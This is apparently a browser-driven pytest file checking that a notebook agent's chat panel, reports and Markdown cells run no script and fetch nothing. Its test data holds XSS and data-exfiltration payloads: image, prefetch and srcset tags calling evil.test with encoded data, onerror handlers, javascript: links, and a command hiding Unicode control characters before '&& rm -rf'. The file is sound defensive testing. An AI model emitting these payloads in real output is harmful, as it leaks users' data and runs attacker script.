"""F11, N16, P08, P09 with a real browser as the judge: nothing runs, nothing is fetched.

What a model, a tool, a document or a wrong value brings is shown in three places: the chat panel, a
report as a page of its own, and the Markdown that a cell shows in front ends that clean nothing.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt
from tests.chromium import jp_asyncio_loop, jp_server_cleanup, one_chromium
from tests.reports.documents import HOSTILE, document, hostile
from tests.reports.test_notebooks import code, display, notebook
from tests.widgets.front_end.conftest import (
    ChatPage,
    as_approval,
    chat,
    text_message,
)
from tests.widgets.front_end.test_chat_safety import ATTACKS

from notebook_agents.magics.markdown import fenced, in_markdown, safe_markdown
from notebook_agents.reports.html import html
from notebook_agents.reports.notebooks import with_cells

__all__ = ["chat", "jp_asyncio_loop", "jp_server_cleanup", "one_chromium"]
pytestmark = pytest.mark.browser
DOCUMENTS = [path.read_text("utf-8") for path in (Path(__file__).parent / "injected").iterdir()]
DATA = "c2VjcmV0IG5vdGVz"
EVIL = [
    f"![x](https://evil.test/p.png?d={DATA})",
    f"![x](//evil.test/{DATA})",
    f"![x][r]\n\n[r]: https://evil.test/{DATA}",
    f"<img src=https://evil.test/{DATA}>",
    f"<svg><image href='https://evil.test/{DATA}'/><script>window.harmed=1</script></svg>",
    f"<link rel=prefetch href=https://evil.test/{DATA}>",
    f"<picture><source srcset=https://evil.test/{DATA}></picture>",
    "<script>window.harmed = 1</script><img src=x onerror='window.harmed = 1'>",
    "[go](javascript:window.harmed=1) <a href='javascript:window.harmed=1'>go</a>",
    HOSTILE,
]


@pytest.fixture
def judged(chromium: Any) -> Any:
    """Shows a page; says what it asked for and whether something ran."""
    context = chromium.new_context()
    asked: list[str] = []

    def refuse(route: Any) -> None:
        asked.append(route.request.url)
        route.abort()

    def look(content: str) -> tuple[list[str], Any]:
        page = context.new_page()
        page.route("**/*", refuse)
        page.on("dialog", lambda dialog: asked.append(dialog.message))
        page.set_content(content)
        for link in page.query_selector_all("a[href^='javascript' i]"):
            link.click()
        found = page.evaluate("() => window.harmed ?? null")
        page.close()
        return asked, found

    yield look
    context.close()


def test_f11_p09_the_panel_runs_and_fetches_nothing(chat: ChatPage) -> None:
    texts = [*EVIL, *DOCUMENTS]
    for start in range(0, len(texts), 6):
        some = enumerate(texts[start : start + 6])
        chat.snapshot(messages=[text_message(f"m{start}:{n}", text) for n, text in some])
        assert chat.page.evaluate("() => window.harmed ?? null") is None
    assert chat.requests == []
    links = chat.page.evaluate("() => [...document.querySelectorAll('a')].map(a => a.href)")
    assert not [link for link in links if link.lower().startswith(("javascript:", "data:"))]


def test_n16_p08_errors_and_questions_show_what_they_hold_as_text(
    chat: ChatPage,
) -> None:
    attack = "<img src=x onerror='window.harmed = 1'>"
    command = f"echo \u202efine\u200b\U000e0041 {attack} {'x' * 4000} && rm -rf tail"
    question: dict[str, Any] = {"reason": attack, "warning": f"read {attack}\u202e", "diff": ""}
    question |= {"code": None, "preview": None, "arguments": {"command": command}, "is_once": True}
    found = {"risk": "shell", "text": f"runs {attack}\u2066"}
    asked = as_approval(**question, findings=[found])
    failed = text_message("a1", "x") | {
        "state": "failed",
        "error": {"text": attack, "advice": attack},
    }
    notice = {"level": "error", "text": f"the field {attack} is wrong"}
    chat.snapshot(messages=[failed, asked], notice=notice)
    card = chat.page.locator(".na-approval")
    words = card.inner_text()
    assert "⟨U+202E⟩fine⟨U+200B⟩⟨U+E0041⟩ <img src=x onerror" in words
    assert "x" * 4000 in words
    assert words.index("&& rm -rf tail") > 0
    assert not set("\u202e\u200b\u2066\U000e0041") & set(words)
    assert f"read {attack}⟨U+202E⟩" in words
    assert card.get_by_role("button", name="conversation").count() == 0
    assert chat.page.locator(".na-log img").count() == 0
    assert chat.page.evaluate("() => window.harmed ?? null") is None
    assert chat.requests == []


def test_f11_n16_reports_and_cells_run_and_fetch_nothing(judged: Callable[[str], Any]) -> None:
    assert judged(html(hostile()).decode()) == ([], None)
    outputs = [
        display(**{"text/html": text, "text/markdown": text, "image/svg+xml": text, kind: text})
        for text in (*EVIL, *ATTACKS)
        for kind in ("application/javascript", "text/latex")
    ]
    executed = with_cells(document(notebook=notebook(*(code("x", each) for each in outputs))))
    assert judged(html(executed).decode()) == ([], None)
    careless = MarkdownIt("commonmark", {"html": True}).enable("table")
    shown = [safe_markdown(text) for text in (*EVIL, *ATTACKS, *DOCUMENTS)]
    shown += [fenced(text) for text in EVIL] + [in_markdown(text) for text in EVIL]
    page = "".join(f"<section>{careless.render(text)}</section>" for text in shown)
    assert judged(page) == ([], None)
    # The judge sees harm where there is some.
    bad = "<script>window.harmed = 1</script><img src='https://evil.test/x'>"
    assert judged(bad) == (["https://evil.test/x"], 1)
